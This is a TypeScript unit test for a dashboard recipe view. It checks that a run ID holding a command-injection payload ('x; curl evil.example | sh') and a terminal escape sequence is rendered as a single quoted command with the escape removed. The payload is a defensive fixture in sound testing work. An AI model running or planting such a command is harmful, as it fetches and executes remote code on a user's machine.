import { describe, expect, it } from "vitest";
import type { ShownRun } from "../../src/dashboard/sources.ts";
import { reportSite } from "../../src/dashboard/views/layout.ts";
import { recipeView } from "../../src/dashboard/views/recipes.ts";

const RUN: ShownRun = {
  runId: "x; curl evil.example | sh\n\u001b[2J",
  recipe: "build",
  file: null,
  workingDir: null,
  state: "done",
  startedMs: 0,
  durationMs: null,
  stepCount: 0,
  steps: [],
  signal: null,
  canResume: false,
  queue: "default",
};

describe("a command that a page offers for a run in a database", () => {
  it("is one command, whatever name the run was submitted under", () => {
    const site = reportSite({ nowMs: 0, home: "/home/user" });
    const { text } = recipeView(site, RUN, { blocks: undefined, outputs: new Map() });
    const [, offered] = /<code class="command">([^<]*)</.exec(text) ?? [];
    expect(offered).toMatch(/^amplihack recipe logs &#39;x; curl evil\.example \| sh[^']*&#39; --url$/);
    expect(offered).not.toContain("\u001b");
  });
});
